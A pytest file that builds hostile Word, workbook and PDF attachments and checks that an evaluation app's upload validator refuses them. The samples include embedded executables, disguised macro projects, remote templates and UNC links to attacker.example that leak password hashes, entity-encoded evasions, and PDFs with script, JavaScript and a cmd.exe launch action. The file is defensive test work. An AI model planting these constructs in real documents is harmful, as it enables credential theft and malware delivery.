"""Attachments that carry something else: OLE objects, hidden macros, remote templates, PDF/HTML polyglots.

The files are built here with zipfile; each is refused with a message the chair understands, on the
duty report and on rectification evidence alike, and nothing is stored.
"""
import io
import zipfile

import pytest
import sqlalchemy as sa

from evalapp.core.db import db
from evalapp.duty_reports.models import ReportFile
from evalapp.rectification.models import Evidence
from tests.builders import stored
from tests.factories import drive_rectification, make_campaign, published_rectification
from tests.test_duty_reports import text, upload
from tests.test_evidence import post_progress

pytestmark = pytest.mark.usefixtures("uploads")  # files in a folder of each test's own

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = "application/vnd.openxmlformats-package.relationships+xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode." * 4


def rels(*relationships):
    """A .rels part from (id, type, target, external) tuples."""
    items = "".join(f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
                    + (' TargetMode="External"' if external else "") + "/>"
                    for rid, kind, target, external in relationships)
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">{items}</Relationships>'


def word(parts=None, overrides=(), defaults=(), document_rels=()):
    """A Word document as Word writes it, plus `parts` ({name: bytes}) and content types."""
    types = (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             f'<Default Extension="rels" ContentType="{RELS}"/><Default Extension="xml" ContentType="application/xml"/>'
             + "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults)
             + f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>'
             + "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
             + "</Types>")
    parts = {"_rels/.rels": rels(("rId1", f"{R}/officeDocument", "word/document.xml", False)),
             "word/_rels/document.xml.rels": rels(*document_rels)} | (parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", '<w:document xmlns:w="http://schemas.openxmlformats.org/'
                                              'wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>')
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
VBA = "application/vnd.ms-office.vbaProject"

OLE = "嵌入"
MACRO = "含宏"
EXTERNAL = "外部"
HOSTILE_DOCX = [
    # An OLE package object carrying an .exe, as Word embeds it.
    (word({"word/embeddings/oleObject1.bin": OLE_MAGIC + EXE}, defaults=[("bin", OLE_OBJECT)],
          document_rels=[("rId5", f"{R}/oleObject", "embeddings/oleObject1.bin", False)]), OLE),
    # The same .exe, bare, under a harmless-looking name.
    (word({"word/embeddings/Package.png": EXE}), OLE),
    (word({"word/media/image1.png": EXE}), OLE),
    # A macro project renamed: by its content type, by its relationship, by its content.
    (word({"word/media/image7.png": OLE_MAGIC + b"\x00" * 512}, overrides=[("/word/media/image7.png", VBA)]), MACRO),
    (word({"word/custom.dat": b"\x00" * 64}, document_rels=[
        ("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "custom.dat", False)]), MACRO),
    (word({"word/theme/theme9.xml": OLE_MAGIC + b"\x00" * 512}), MACRO),
    (word(defaults=[("dat", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")]), MACRO),
    # A remote template (fetched, with its macros, when the document opens).
    (word({"word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                                f'xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
           "word/_rels/settings.xml.rels": rels(("rId1", f"{R}/attachedTemplate", "https://evil.example/t.dotm", True))},
          overrides=[("/word/settings.xml",
                      "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")]), EXTERNAL),
    # External relationships: a picture fetched from a share (leaks the reader's Windows password hash),
    # a linked OLE object, a frame; and a link that opens a local file.
    (word(document_rels=[("rId7", f"{R}/image", "\\\\attacker.example\\share\\x.png", True)]), EXTERNAL),
    (word(document_rels=[("rId7", f"{R}/oleObject", "https://evil.example/x.xls", True)]), EXTERNAL),
    (word({"word/webSettings.xml": "<w:webSettings/>", "word/_rels/webSettings.xml.rels": rels(
        ("rId1", f"{R}/frame", "https://evil.example/frame.html", True))}), EXTERNAL),
    (word(document_rels=[("rId8", f"{R}/hyperlink", "file://attacker.example/share/run.exe", True)]), EXTERNAL),
    (word(document_rels=[("rId8", f"{R}/hyperlink", "\\\\attacker.example\\share\\run.exe", True)]), EXTERNAL),
    # The same, spelt so that a plain text search would miss it.
    (word({"word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
           f'Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
           "</Relationships>"}), EXTERNAL),
    (word({"word/_rels/document.xml.rels": f'<!DOCTYPE r [<!ENTITY x "External">]><Relationships xmlns="{PACKAGE_RELS}">'
           f'<Relationship Id="rId1" Type="{R}/image" Target="https://evil.example/x.png" TargetMode="&x;"/>'
           "</Relationships>"}), "不是有效的 Word"),
    (word({"word/_rels/document.xml.rels": rels(("rId1", f"{R}/image", "https://evil.example/x.png", True))
           .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}), "不是有效的 Word"),
]

POLYGLOT = "网页"
ACTIVE = "脚本"
HOSTILE_PDF = [
    (b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj<<>>endobj\n%%EOF\n",
     POLYGLOT),
    (b"%PDF-1.4\n%<!DOCTYPE html><svg onload=alert(1)>\n1 0 obj<<>>endobj\n%%EOF\n", POLYGLOT),
    (b"%PDF-1.7\n1 0 obj<<>>endobj\n" + b"%" + b"0" * 5000 + b"\n<ScRiPt src=//evil.example/x.js></script>\n%%EOF\n",
     POLYGLOT),
    (b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"
     b"%%EOF\n", ACTIVE),
    (b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n", ACTIVE),
    (b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Length 20>>stream\nMZ\x90\x00\nendstream endobj\n%%EOF\n", ACTIVE),
]


@pytest.mark.parametrize("content, message", HOSTILE_DOCX + HOSTILE_PDF)
def test_a_duty_report_refuses_attachments_that_carry_something_else(world, login, uploads, content, message):
    campaign = make_campaign(world, "reporting")
    response = upload(login("chair"), campaign, "attachments", content, "工作总结.docx")
    assert response.status_code == 400
    assert message in text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ReportFile)) == 0 and stored(uploads) == []


@pytest.mark.parametrize("content, message", [HOSTILE_DOCX[0], HOSTILE_DOCX[4], HOSTILE_DOCX[7], HOSTILE_PDF[0]])
def test_rectification_evidence_refuses_them_too(world, login, uploads, content, message):
    rectification = drive_rectification(world, published_rectification(world), "in_progress")
    response = post_progress(login("chair"), rectification, [(content, "纪要.docx")])
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Evidence)) == 0 and stored(uploads) == []


def test_ordinary_documents_with_pictures_and_web_links_are_accepted(world, login):
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    parts = {name: "<x/>" for name in ("word/styles.xml", "word/settings.xml", "word/webSettings.xml",
                                       "word/fontTable.xml", "word/theme/theme1.xml", "word/numbering.xml",
                                       "word/footer1.xml", "docProps/core.xml", "docProps/app.xml",
                                       "customXml/item1.xml", "customXml/itemProps1.xml")}
    parts |= {"word/media/image1.png": png, "word/fonts/font1.odttf": b"\x13\x37" * 40,
              "customXml/_rels/item1.xml.rels": rels(("rId1", f"{R}/customXmlProps", "itemProps1.xml", False)),
              "_rels/.rels": rels(
                  ("rId3", f"{R}/extended-properties", "docProps/app.xml", False),
                  ("rId2", f"{PACKAGE_RELS}/metadata/core-properties", "docProps/core.xml", False),
                  ("rId1", f"{R}/officeDocument", "word/document.xml", False))}
    document = word(parts, defaults=[("png", "image/png"), ("odttf", "application/vnd.openxmlformats-officedocument"
                                                                      ".obfuscatedFont")],
                    document_rels=[(f"rId{i}", f"{R}/{kind}", target, False) for i, (kind, target) in enumerate([
                        ("styles", "styles.xml"), ("settings", "settings.xml"), ("webSettings", "webSettings.xml"),
                        ("fontTable", "fontTable.xml"), ("theme", "theme/theme1.xml"), ("numbering", "numbering.xml"),
                        ("footer", "footer1.xml"), ("customXml", "../customXml/item1.xml"),
                        ("image", "media/image1.png")], start=1)]
                    + [("rId20", f"{R}/hyperlink", "https://www.jmszgh.cn/", True),
                       ("rId21", f"{R}/hyperlink", "mailto:office@example.org", True)])
    pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
           b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</Length 12>>stream\n<48656c6c6f>\nendstream\n"
           b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    campaign = make_campaign(world, "reporting")
    chair = login("chair")
    assert upload(chair, campaign, "attachments", document, "工作总结.docx").status_code == 302
    assert upload(chair, campaign, "attachments", pdf, "财务公开.pdf").status_code == 302
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ReportFile)) == 2


def workbook(extra_parts=None, main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"):
    """A chart's data as Word embeds it: a small .xlsx package."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         f'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>')
        archive.writestr("_rels/.rels", rels(("rId1", f"{R}/officeDocument", "xl/workbook.xml", False)))
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for name, content in (extra_parts or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def chart_document(data):
    return word({"word/charts/chart1.xml": "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>",
                 "word/charts/_rels/chart1.xml.rels": rels(
                     ("rId1", f"{R}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)),
                 "word/embeddings/Microsoft_Excel_Worksheet.xlsx": data},
                defaults=[("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")],
                document_rels=[("rId4", f"{R}/chart", "charts/chart1.xml", False)])


def local_template(target):
    return word({"word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                                      f'xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
                 "word/_rels/settings.xml.rels": rels(("rId1", f"{R}/attachedTemplate", target, True))})


def test_a_report_with_a_chart_or_made_from_a_template_on_the_authors_own_drive_is_accepted(world, login):
    campaign = make_campaign(world, "reporting")
    chair = login("chair")
    for name, data in (("图表.docx", chart_document(workbook())),
                       ("模板.docx", local_template("file:///C:\\Users\\zhang\\AppData\\Roaming\\Microsoft\\Templates\\工会.dotx"))):
        response = upload(chair, campaign, "attachments", data, name)
        assert response.status_code in (200, 302) and "不接受" not in text(response), text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ReportFile)) == 2


@pytest.mark.parametrize("content, message", [
    (chart_document(workbook({"xl/vbaProject.bin": OLE_MAGIC + b"\x00" * 64})), MACRO),
    (chart_document(workbook(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")), MACRO),
    (chart_document(workbook({"xl/embeddings/oleObject1.bin": OLE_MAGIC})), MACRO),
    (chart_document(workbook({"xl/media/image1.png": EXE})), OLE),
    (chart_document(workbook({"xl/_rels/workbook.xml.rels": rels(
        ("rId1", f"{R}/externalLinkPath", "https://evil.example/x.xlsx", True))})), EXTERNAL),
    (chart_document(EXE), OLE),
    (local_template("file://attacker.example/share/t.dotm"), EXTERNAL),
    (local_template("\\\\attacker.example\\share\\t.dotm"), EXTERNAL),
])
def test_a_chart_workbook_or_template_that_carries_something_else_is_refused(world, login, uploads, content, message):
    campaign = make_campaign(world, "reporting")
    response = upload(login("chair"), campaign, "attachments", content, "报告.docx")
    assert response.status_code == 400 and message in text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ReportFile)) == 0
